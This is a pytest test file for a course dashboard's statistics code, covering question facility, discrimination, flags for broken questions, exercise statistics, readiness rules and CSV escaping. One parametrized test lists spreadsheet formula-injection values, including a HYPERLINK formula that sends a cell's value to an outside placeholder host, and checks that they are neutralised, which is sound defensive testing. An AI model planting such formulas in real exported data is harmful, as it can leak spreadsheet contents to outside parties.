from __future__ import annotations

import csv
import io

import pytest

from courseware.dashboard.stats import (
    ExerciseRun,
    FirstAnswer,
    ReadinessRule,
    csv_safe,
    discrimination,
    exercise_stats,
    facility,
    groups,
    question_stats,
    readiness,
)


def test_facility_is_the_share_of_right_first_answers():
    answers = [FirstAnswer(1, True), FirstAnswer(2, False), FirstAnswer(3, True), FirstAnswer(4, True)]
    assert facility(answers) == 0.75
    assert facility([]) is None


def test_groups_are_the_top_and_bottom_27_percent():
    totals = {learner: score for learner, score in zip(range(1, 11), [10, 9, 8, 7, 6, 5, 4, 3, 2, 1], strict=True)}
    upper, lower = groups(totals)
    # 27 % of 10 learners rounds to 3 per group.
    assert upper == {1, 2, 3}
    assert lower == {8, 9, 10}


def test_discrimination_hand_computed():
    # Ten learners ranked by total; the upper three got the question right 3/3, the lower three 1/3.
    totals = {n: 11 - n for n in range(1, 11)}
    answers = [FirstAnswer(n, n in {1, 2, 3, 5, 9}) for n in range(1, 11)]
    assert discrimination(answers, totals) == pytest.approx(1.0 - 1 / 3)


def test_negative_discrimination_flags_a_broken_question():
    totals = {1: 10, 2: 9, 3: 2, 4: 1}
    answers = [FirstAnswer(1, False, ("b",)), FirstAnswer(2, False, ("b",)), FirstAnswer(3, True), FirstAnswer(4, True)]
    stats = question_stats("q1", answers, totals)
    assert stats.facility == 0.5
    assert stats.discrimination == -1.0
    assert stats.top_wrong_choice == "b" and stats.top_wrong_count == 2
    assert stats.broken_reasons == ("negative discrimination",)


def test_everyone_wrong_flags_a_broken_question_and_small_groups_give_no_discrimination():
    answers = [FirstAnswer(1, False, ("a",)), FirstAnswer(2, False, ("c",)), FirstAnswer(3, False, ("c",))]
    stats = question_stats("q2", answers, {1: 1, 2: 2, 3: 3})
    assert stats.facility == 0
    assert stats.discrimination is None  # fewer than four learners
    assert stats.top_wrong_choice == "c"
    assert stats.broken_reasons == ("everyone got it wrong",)


def test_exercise_statistics_hand_computed():
    runs = [
        ExerciseRun(1, (False, False, True), ("r/a", "r/b"), 2),
        ExerciseRun(2, (True,), ("r/a",), 0),
        ExerciseRun(3, (False, False, False, False, True), ("r/b",), 3),
        ExerciseRun(4, (False,), ("r/a",), 1),
        ExerciseRun(5, (), (), 0),  # opened, never checked: not started
    ]
    stats = exercise_stats(runs)
    assert stats.started == 4
    assert stats.passed == 3
    assert stats.median_checks_to_pass == 3
    assert stats.hints_used_total == 6
    assert stats.learners_using_hints == 3
    assert stats.top_first_check_rules == (("r/a", 3), ("r/b", 2))


def test_readiness_rule():
    rule = ReadinessRule(required_pages=("primer", "footguns"), quizzes=("basics", "ops"), exercises_needed=2)
    ready = readiness(
        rule,
        pages_read={"primer", "footguns", "trivia"},
        pages_total=5,
        best_quiz={"basics": (0.9, True), "ops": (0.8, True)},
        exercises_passed={"a", "b"},
        exercises_total=4,
    )
    assert ready.ready and ready.missing == ()
    assert ready.best_quiz_share == pytest.approx(0.85)
    not_yet = readiness(
        rule,
        pages_read={"primer"},
        pages_total=5,
        best_quiz={"basics": (0.5, False)},
        exercises_passed={"a"},
        exercises_total=4,
    )
    assert not not_yet.ready
    assert not_yet.missing == ("read footguns", "pass quiz basics, ops", "pass 1 more exercise(s)")
    assert not_yet.quizzes_passed == 0 and not_yet.best_quiz_share == 0.25  # ops not taken counts 0


def test_the_quiz_score_counts_every_quiz_of_the_topic_not_only_those_taken():
    rule = ReadinessRule(required_pages=(), quizzes=("basics", "footguns", "ops"), exercises_needed=0)
    one_of_three = readiness(
        rule,
        pages_read=set(),
        pages_total=5,
        best_quiz={"basics": (0.51, False)},
        exercises_passed=set(),
        exercises_total=0,
    )
    assert one_of_three.best_quiz_share == pytest.approx(0.17)
    none_taken = readiness(
        rule, pages_read=set(), pages_total=5, best_quiz={}, exercises_passed=set(), exercises_total=0
    )
    assert none_taken.best_quiz_share is None


def test_default_readiness_needs_half_the_exercises_rounded_up():
    rule = ReadinessRule.default_for(quizzes=["q"], exercises=["a", "b", "c"])
    assert rule.exercises_needed == 2 and rule.required_pages == ("primer", "footguns")


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://x?"&A1)', "+1", "-1", "@SUM(1)", "\t=1", "\r=1"])
def test_csv_cells_that_start_a_formula_are_neutralised(cell):
    safe = csv_safe(cell)
    assert safe == "'" + cell
    buffer = io.StringIO()
    csv.writer(buffer).writerow([safe, "plain"])
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == [safe, "plain"]


def test_csv_leaves_ordinary_cells_alone():
    assert csv_safe("lena") == "lena" and csv_safe(0.5) == "0.5" and csv_safe(None) == ""
